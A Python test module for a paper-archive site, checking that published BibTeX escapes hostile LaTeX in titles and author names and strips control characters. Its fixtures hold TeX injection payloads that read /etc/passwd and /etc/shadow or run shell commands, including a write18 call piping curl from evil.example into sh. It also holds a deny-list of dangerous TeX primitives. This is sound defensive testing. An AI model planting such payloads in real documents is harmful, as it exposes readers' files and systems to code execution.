"""A reader's LaTeX and control characters (issue 17, section 3), through the real build.

A title or an author is the contributor's text; a reader who cites the paper compiles
the BibTeX the site gives them. Every test builds a fixture site with MkDocs' own API
(tests/sitebuild.py), parses each BibTeX the site publishes (the per-page Cite block,
``papers.bib.gz``, each topic's ``papers.bib.gz``) with bibtexparser, and checks every control
sequence in every field against the allow-list (:func:`tex_problems`). Control
characters are refused by the real ``papers validate`` CLI, left out of the build, and
dropped by every output layer even for a record that never met validation.
"""

from __future__ import annotations

import datetime as dt
import gzip
import html
import json
import logging
import os
import re
from pathlib import Path

import bibtexparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from paper_archive.record.model import Paper
from paper_archive.record.slugs import base_slug
from paper_archive.site import bibtex
from paper_archive.site.bibtex import MATH_COMMANDS, BibPaper, escape
from paper_archive.site.collect import Entry
from paper_archive.site.exports import paper_record
from paper_archive.site.feeds import plain, xml_text
from paper_archive.site.meta import page_meta
from paper_archive.sources import manifest_text
from paper_archive.text.controls import CONTROL_CHARS

from tests.papers_cli import papers
from tests.sitebuild import build_site, make_site, paper

PUBLIC = "https://papers.example.org/"

#: Titles and names a hostile contributor writes: each tries to run TeX in a reader's
#: LaTeX (file reads, shell escapes, a latexmkrc written for the next run, ``^^``
#: notation for a backslash, a definition, a catcode change).
HOSTILE_TITLES = [
    r"Injection $\input{/etc/passwd}$ paper",
    r"Shell $\immediate\write18{curl evil.example | sh}$ escape",
    r"Rc $\immediate\openout9=latexmkrc\immediate\write9{system('id')}\immediate\closeout9$",
    r"Hat notation $^^5cinput{/etc/passwd}$ trick",
    r"Catcode $\catcode`\@=0 @input{/etc/shadow}$ switch",
    r"Csname $\csname input\endcsname{/etc/passwd}$ name",
    r"Include $\include{secret}\usepackage{shellesc}$ both",
    r"Kept math $\alpha \leq \mathcal{O}(n^2) \times \beta_{i}$ stays",
]
HOSTILE_AUTHORS = (
    r"Eve $\input{/etc/passwd}$ Mallory",
    r"Mal $\immediate\write18{touch /tmp/pwned}$ Lory",
    r"Ann $\alpha$ Alpha",
)
#: A definition is refused by validate and the build before any export (math may not
#: define macros: mathbounds.py), so it cannot be built into a site; the escaper must
#: hold anyway (test_a_definition_is_escaped_even_past_the_checks).
DEFINITION_TITLE = r"Definition $\def\x{\input}\x{/etc/passwd}$ here"
#: TeX primitives and LaTeX commands that read, write, run, define or re-catcode.
DANGEROUS = {
    "input", "include", "InputIfFileExists", "openin", "read", "readline", "write",
    "immediate", "openout", "closeout", "write18", "ShellEscape", "def", "edef", "gdef",
    "xdef", "let", "futurelet", "csname", "endcsname", "expandafter", "catcode",
    "newcommand", "renewcommand", "providecommand", "usepackage", "RequirePackage",
    "special", "scantokens", "endinput", "jobname", "lowercase", "uppercase", "string",
    "detokenize", "makeatletter", "verb", "url", "href", "directlua", "luaexec",
    "pdfprimitive", "everyjob", "everypar", "output", "shipout", "aftergroup",
}  # fmt: skip
#: What the escaper writes for text specials.
ESCAPES = {
    "textbackslash", "textbraceleft", "textbraceright", "textasciitilde", "textasciicircum",
}  # fmt: skip
ALLOWED_WORDS = MATH_COMMANDS | ESCAPES
ALLOWED_SYMBOLS = set(" ,;:!{}|_%#&$")
_TOKEN = re.compile(r"\\(?:([A-Za-z]+)|(.))", re.DOTALL)


def tex_problems(value: str, *, field: str = "") -> list[str]:
    """Everything in a BibTeX field value that is not allow-listed TeX: a control word
    or symbol outside the lists, ``^^``, an unescaped ``%``/``#``/``&``/``~`` (a ``url``
    is verbatim: its ``%`` are percent-encodings), an unbalanced brace (as BibTeX counts
    them: every one), a control character."""
    problems = [
        f"control word \\{w}" for w, _ in _TOKEN.findall(value) if w and w not in ALLOWED_WORDS
    ]
    problems += [
        f"control symbol \\{s!r}"
        for w, s in _TOKEN.findall(value)
        if not w and s not in ALLOWED_SYMBOLS
    ]
    if "^^" in value:
        problems.append("^^ notation")
    bare = _TOKEN.sub("", value)
    problems += [f"unescaped {c!r}" for c in "%#&~" if c in bare and (c, field) != ("%", "url")]
    depth = 0
    for char in value:
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            problems.append("a closing brace before its opening one")
            break
    if depth:
        problems.append("unbalanced braces")
    if bare.count("$") % 2:
        problems.append("an odd number of $")
    problems += [f"control character U+{ord(c):04X}" for c in CONTROL_CHARS.findall(value)]
    return problems


def test_the_allow_list_holds_nothing_that_reads_writes_or_defines() -> None:
    assert not (MATH_COMMANDS & DANGEROUS)
    assert tex_problems(r"\input{x}") == ["control word \\input"]  # the checker checks


def bib_fields(text: str) -> list[tuple[str, str, str]]:
    """``(entry key, field, value)`` of every field, parsed by bibtexparser."""
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == [], [b.error for b in library.failed_blocks]
    return [(e.key, f.key, str(f.value)) for e in library.entries for f in e.fields]


def cite_block(page: Path) -> str:
    """The BibTeX of a paper page's Cite block, as a reader copies it."""
    found = re.search(
        r'<pre class="pa-cite"><code>(.*?)</code></pre>',
        page.read_text("utf-8"),
        re.DOTALL,
    )
    assert found, page
    return html.unescape(found[1])


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A built site whose papers carry hostile math in their titles and authors."""
    papers = [
        paper(title, tags=("llms",), authors=HOSTILE_AUTHORS, published=dt.date(2024, 1, i + 1))
        for i, title in enumerate(HOSTILE_TITLES)
    ]
    root = make_site(tmp_path_factory.mktemp("tex") / "site", papers)
    old = os.environ.get("SITE_URL")
    os.environ["SITE_URL"] = PUBLIC
    try:
        return build_site(root, strict=True)
    finally:
        if old is None:
            os.environ.pop("SITE_URL", None)
        else:
            os.environ["SITE_URL"] = old


def test_no_bibtex_the_site_publishes_carries_a_command_off_the_allow_list(
    hostile_site: Path,
) -> None:
    files = {
        "papers.bib": gzip.decompress((hostile_site / "papers.bib.gz").read_bytes()).decode(
            "utf-8"
        ),
        "tags/llms/papers.bib": gzip.decompress(
            (hostile_site / "tags/llms/papers.bib.gz").read_bytes()
        ).decode("utf-8"),
    }
    for title in HOSTILE_TITLES:
        page = hostile_site / "papers" / base_slug(title) / "index.html"
        files[f"Cite block of {title}"] = cite_block(page)
    for name, text in files.items():
        fields = bib_fields(text)
        titles = [value for _, field, value in fields if field == "title"]
        assert len(titles) == (1 if name.startswith("Cite") else len(HOSTILE_TITLES)), name
        for key, field, value in fields:
            assert tex_problems(value, field=field) == [], (name, key, field, value)
    # The hostile spans became text, the honest math stayed math.
    everything = files["papers.bib"]
    assert "passwd" in everything and "\\input" not in everything
    assert r"$\alpha \leq \mathcal{O}(n^2) \times \beta_{i}$" in everything
    assert r"Ann $\alpha$ Alpha" in everything


def test_a_definition_is_escaped_even_past_the_checks() -> None:
    escaped = escape(DEFINITION_TITLE)
    assert tex_problems(escaped) == [], escaped
    assert "\\def" not in escaped and "\\input" not in escaped


_TEX_PIECES = st.sampled_from(
    [
        "$", "\\", "{", "}", "^", "^^", "_", "%", "#", "&", "~", " ", "a", "Z", "5c",
        "\\input", "\\write18", "\\alpha", "\\mathcal", "\\{", "\\}", "\\%", "\\$", "\\\\",
        "\\immediate", "\\def", "\\csname", "\\catcode", "`", "@", "é", "\x01", "\x1b",
        "\x7f", "\x85", "\ufffe", "\n", "\t", "and", " and ",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.lists(_TEX_PIECES, max_size=30).map("".join), st.text(max_size=60)))
def test_the_escaper_writes_only_allow_listed_tex(text: str) -> None:
    assert tex_problems(escape(text)) == [], escape(text)


@settings(max_examples=150, deadline=None)
@given(
    title=st.lists(_TEX_PIECES, min_size=1, max_size=20).map("".join),
    author=st.lists(_TEX_PIECES, min_size=1, max_size=12).map("".join),
)
def test_every_field_of_an_entry_parses_and_is_allow_listed(title: str, author: str) -> None:
    record = Paper(title=title, added=dt.date(2026, 1, 1), authors=(author, "B"))
    item = BibPaper("k", record, url="https://x.org/a{b}\\c\x01", keywords=("Tag $\\input$",))
    for _, field, value in bib_fields(bibtex.bibliography([item, BibPaper("k2", record, None)])):
        assert tex_problems(value, field=field) == [], value


# --- control characters ---------------------------------------------------------------

CONTROL_PAGE = """---
title: {title}
tags: []
added: 2026-11-23
authors:
- {author}
---

# Heading

{abstract}

{notes}
"""


def _control_pages(root: Path) -> dict[str, tuple[int, str]]:
    """Pages holding a control character in one place each: name -> (line, what)."""
    cases = {
        "title": ('"Ctrl \\x01\\x02\\x1b"', "Ann", "An abstract.", "Notes.", 2),
        "author": ('"Clean Title"', '"Ann \\e[31m"', "An abstract.", "Notes.", 6),
        "abstract": ("Abstract Case", "Ann", "An \x01 abstract \x1b[2J.", "Notes.", 11),
        "notes": ("Notes Case", "Ann", "An abstract.", "Notes \x7f and \x9b.", 13),
        "c1-title": ('"C1 \\x85 \\x9b title"', "Ann", "An abstract.", "Notes.", 2),
        "nonchar": ('"Nonchar \\uFFFE title"', "Ann", "An abstract.", "Notes.", 2),
    }
    out: dict[str, tuple[int, str]] = {}
    for name, (title, author, abstract, notes, line) in cases.items():
        text = CONTROL_PAGE.format(title=title, author=author, abstract=abstract, notes=notes)
        (root / "docs/papers" / f"{name}.md").write_text(text, encoding="utf-8")
        out[name] = (line, name)
    return out


def test_validate_refuses_control_characters_with_path_and_line(tmp_path: Path) -> None:
    root = make_site(tmp_path / "site", [paper("Pointer Networks")])
    cases = _control_pages(root)
    done = papers(root, "validate")
    assert done.returncode == 1, done.stdout
    for name, (line, _) in cases.items():
        expected = f"docs/papers/{name}.md:{line}: error:"
        hits = [row for row in done.stdout.splitlines() if row.startswith(expected)]
        assert any("control character" in row for row in hits), (name, done.stdout)
    assert "pointer-networks.md" not in done.stdout


def test_the_build_leaves_out_pages_with_control_characters(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    root = make_site(tmp_path / "site", [paper("Pointer Networks", tags=("llms",))])
    cases = _control_pages(root)
    with caplog.at_level(logging.WARNING):
        site = build_site(root, strict=False)  # what `mkdocs serve` does
    warnings = "\n".join(r.getMessage() for r in caplog.records)
    for name in cases:
        assert f"docs/papers/{name}.md: left out of the site" in warnings
        assert not (site / "papers" / name).exists()
    for path in sorted(site.rglob("*")):
        if "assets" not in path.parts and path.suffix in {".bib", ".xml", ".json", ".html"}:
            text = path.read_text("utf-8")
            assert not CONTROL_CHARS.findall(text.replace("\r", "")), path
    assert "Clean Title" not in gzip.decompress((site / "papers.bib.gz").read_bytes()).decode(
        "utf-8"
    )


CONTROL_VALUES = "Ctrl \x01\x02\x1b[31m \x7f\x85\x9b \ufffe\uffff \ud800 end"


def test_every_output_layer_drops_control_characters_validated_or_not() -> None:
    """A record that never met validation (built in memory) still reaches no reader
    with a control character: BibTeX, <head> metadata, feeds, papers.json."""
    record = Paper(
        title=CONTROL_VALUES,
        added=dt.date(2026, 1, 1),
        authors=(CONTROL_VALUES,),
        arxiv="2403.12345",
        abstract=CONTROL_VALUES,
    )
    entry = Entry(paper=record, src_uri="papers/x.md", url="papers/x/", summary=CONTROL_VALUES)
    bib = bibtex.entry(BibPaper("k", record, url="https://x.org/\x01a"))
    meta = page_meta(entry)
    outputs = {
        "bibtex": bib,
        "meta": json.dumps([t.content for t in meta.tags] + [meta.description], ensure_ascii=False),
        "feed": plain(record.title) + xml_text(record.authors[0]),
        "papers.json": json.dumps(
            paper_record(entry, key="k", base=None, names={}), ensure_ascii=False
        ),
    }
    for name, text in outputs.items():
        assert CONTROL_CHARS.search(text) is None, (name, text)
        assert "\\u00" not in text and "\\ud8" not in text, (name, text)  # not escaped either
        text.encode("utf-8")  # no lone surrogate
        assert "Ctrl" in text and "end" in text, name


def test_ingest_skips_an_upstream_item_carrying_control_characters(tmp_path: Path) -> None:
    """One bad upstream item (a Daily Papers response with escapes in its title, names
    and abstract) is skipped with its reason, never written as a page that fails
    validation nor silently changed."""
    root = make_site(tmp_path / "site", [])
    for seed in (root / "data/sources").iterdir():
        seed.unlink()
    item = {
        "title": "Ctrl \x01\x02\x1b[31m Title \x85\x9b end",
        "summary": "An \x00abstract\x7f with \x1b[2J escapes.",
        "authors": [{"name": "Eve \x1b]0;pwned\x07 Mallory"}],
    }
    data = json.dumps([{"paper": item}]).encode()
    stem = "hf-daily-2026-11-23-c0ffee00"
    (root / "data/sources" / f"{stem}.json").write_bytes(data)
    (root / "data/sources" / f"{stem}.yaml").write_text(
        manifest_text(
            source_id=stem,
            file_name=f"{stem}.json",
            data=data,
            kind="hf-daily-api",
            origin="test",
            added=dt.date(2026, 11, 23),
        ),
        encoding="utf-8",
    )
    done = papers(root, "ingest")
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"skipped: data/sources/{stem}.json: item 1: title holds U+0001" in done.stdout
    assert not list((root / "docs/papers").glob("*.md"))
    assert papers(root, "validate").returncode == 0
